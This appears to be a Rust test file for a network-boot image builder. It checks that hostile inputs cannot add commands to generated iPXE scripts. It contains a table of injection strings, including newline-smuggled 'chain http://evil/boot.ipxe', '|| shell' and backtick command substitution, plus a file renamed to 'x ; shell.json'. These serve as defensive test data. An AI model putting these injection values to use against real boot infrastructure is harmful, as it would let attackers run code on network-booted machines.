//! No string from a plan, an index, an inventory, a generation record or the command line can
//! add a command to an iPXE script (`crates/builder/src/words.rs`): every path in is tried
//! with a table of hostile strings, each must fail with the field named and nothing written,
//! and what valid inputs produce holds only the commands the writers mean.

mod common;

use common::{diskless, fails, ok, snapshot, Lab, INVENTORY};
use std::path::Path;

/// Newlines, iPXE's `||`/`&&`, comments, setting expansion, quotes, escapes, control and
/// non-ASCII characters, shell syntax.
const HOSTILE: &[&str] = &[
    "x\nchain http://evil/boot.ipxe",
    "x\r\nshell",
    "quiet || shell",
    "quiet && chain http://evil/",
    "quiet ; chain http://evil/",
    "diskless.hostname=a#b",
    "${net0/ip}",
    "a=\"b c\"",
    "it's",
    "back\\slash",
    "tab\there",
    "bell\u{7}",
    "caf\u{e9}",
    "`id`",
    "a | b",
];

/// Every line of an entry is a comment, a label or one of the commands the writers use.
fn only_intended_commands(script: &str) {
    const COMMANDS: &[&str] = &[
        "#!ipxe", "kernel", "initrd", "boot", "chain", "menu", "item", "choose", "iseq", "shell",
        "echo", "goto",
    ];
    for line in script.lines() {
        let first = line.split_whitespace().next().unwrap_or("");
        assert!(
            line.starts_with('#') || line.starts_with(':') || COMMANDS.contains(&first),
            "unexpected iPXE line {line:?} in:\n{script}"
        );
    }
}

fn plan(lab: &Lab, description: &str, cmdline: &str) -> std::path::PathBuf {
    let plan = serde_json::json!({
        "version": 1, "name": "worker", "description": description,
        "kernel": {"image": lab.p("kernel"), "cmdline": cmdline},
        "compression": {"algorithm": "gzip"},
        "components": [{"name": "base", "generated": [{"dest": "/etc/x", "contents": "x"}]}],
    });
    let path = lab.p("plan.json");
    std::fs::write(&path, plan.to_string()).unwrap();
    path
}

#[test]
fn hostile_plans_and_base_urls_build_nothing() {
    let lab = Lab::new();
    let out = lab.p("out");
    for s in HOSTILE {
        for (field, description, cmdline) in [
            ("description", *s, "console=ttyS0"),
            ("kernel.cmdline", "test", *s),
        ] {
            let plan = plan(&lab, description, cmdline);
            let e = fails(
                diskless()
                    .args(["build", "--plan"])
                    .arg(&plan)
                    .arg("--out")
                    .arg(&out),
            );
            assert!(
                e.contains(field) && e.contains("iPXE"),
                "{s:?} as {field}: {e}"
            );
            assert!(!out.exists(), "{s:?} as {field} left {}", out.display());
        }
        let e = fails(
            diskless()
                .args(["build", "--plan"])
                .arg(plan(&lab, "test", "console=ttyS0"))
                .arg("--out")
                .arg(&out)
                .arg("--base-url")
                .arg(format!("http://boot/{s}/")),
        );
        assert!(e.contains("--base-url"), "{s:?} as --base-url: {e}");
        assert!(!out.exists());
    }
}

#[test]
fn hostile_inventories_renamed_indexes_and_edited_records_change_no_entry() {
    let lab = Lab::new();
    let out = lab.build("out", "worker", "1");
    let dest = lab.p("srv");
    lab.publish(&out, &dest, Some(&lab.inventory(INVENTORY)));
    for f in [
        "boot.ipxe",
        "menu.ipxe",
        "worker.ipxe",
        "hosts/52-54-00-12-34-56.ipxe",
    ] {
        only_intended_commands(&std::fs::read_to_string(dest.join(f)).unwrap());
    }
    let before = snapshot(&dest);
    let publish = |out: &Path, inventory: &Path| {
        fails(
            diskless()
                .arg("publish")
                .arg(out)
                .arg("--to")
                .arg(&dest)
                .arg("--inventory")
                .arg(inventory),
        )
    };

    // Kernel arguments of a host.
    for s in HOSTILE {
        let quoted = toml::Value::String(s.to_string()).to_string();
        let text = INVENTORY.replace(
            "kernel_args = \"diskless.debug\"",
            &format!("kernel_args = {quoted}"),
        );
        let e = publish(&out, &lab.inventory(&text));
        assert!(e.contains("hosts[0].kernel_args"), "{s:?}: {e}");
        assert_eq!(before, snapshot(&dest), "{s:?} changed the boot server");
    }

    // An index file renamed to something else than its image's name.
    let renamed = lab.p("renamed");
    common::copy_tree(&out, &renamed);
    std::fs::rename(renamed.join("worker.json"), renamed.join("x ; shell.json")).unwrap();
    let e = publish(&renamed, &lab.inventory(INVENTORY));
    assert!(e.contains("holds the index of image \"worker\""), "{e}");
    assert_eq!(before, snapshot(&dest));

    // A generation record edited by hand: every command that renders entries refuses it.
    let record = dest.join("generations/1.json");
    let text = std::fs::read_to_string(&record).unwrap();
    let description = "\"description\": \"test image 1\"";
    assert!(text.contains(description), "{text}");
    std::fs::write(
        &record,
        text.replace(description, "\"description\": \"x\\nchain http://evil/\""),
    )
    .unwrap();
    let edited = snapshot(&dest);
    let e = publish(&out, &lab.inventory(INVENTORY));
    assert!(
        e.contains("generations/1.json") && e.contains("printable ASCII"),
        "{e}"
    );
    let e = fails(diskless().args(["rollback", "worker", "--to"]).arg(&dest));
    assert!(e.contains("generations/1.json"), "{e}");
    assert_eq!(edited, snapshot(&dest));
}

#[test]
fn hostile_append_arguments_boot_nothing() {
    let lab = Lab::new();
    let out = lab.build("out", "worker", "1");
    for s in HOSTILE {
        let e = fails(diskless().arg("check").arg(&out).arg("--append").arg(s));
        assert!(e.contains("--append"), "{s:?}: {e}");
    }
    ok(diskless().arg("inspect").arg(&out));
}
